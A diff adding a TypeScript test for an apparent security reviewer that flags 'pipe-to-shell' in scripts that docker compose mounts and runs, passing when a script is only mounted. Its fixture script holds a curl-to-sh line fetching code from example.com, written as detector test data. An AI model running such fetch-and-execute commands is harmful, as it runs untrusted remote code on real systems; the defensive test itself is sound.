@@ -70,6 +70,27 @@ describe('a script that is changed alone', () => {
   });
 });
 
+test('a script that compose mounts and starts is reviewed, and one that it only mounts is not', async () => {
+  const service = (line: string, target: string) =>
+    `services:\n  a:\n    image: example/a:1\n    ${line}\n    volumes: [./run.sh:${target}:ro]\n`;
+  const fetching = `${script('curl -fsS http://example.com/x | sh')}`;
+  const ways: readonly (readonly [string, told: readonly string[]])[] = [
+    [service('command: [/run.sh, x]', '/run.sh'), ['run.sh:3 pipe-to-shell']],
+    [service('working_dir: /srv\n    entrypoint: sh ./run.sh', '/srv/run.sh'), ['run.sh:3 pipe-to-shell']],
+    [service('init: true', '/docker-entrypoint-initdb.d/a.sh'), ['run.sh:3 pipe-to-shell']],
+    [service('command: [/other.sh]', '/run.sh'), []],
+  ];
+  for (const [compose, told] of ways) {
+    const seen = await reviewed({ 'compose.yaml': compose, 'run.sh': good }, { 'run.sh': fetching });
+    assert.deepEqual(
+      seen.told.filter((each) => each.endsWith('pipe-to-shell')),
+      told,
+      compose,
+    );
+    assert.equal(seen.verdict, told.length > 0 ? 'fail' : 'pass', seen.summary);
+  }
+});
+
 describe('a script as it was', () => {
   test('is told where a change begins to run it', async () => {
     const before = image('COPY scripts/ /opt/', 'RUN true');
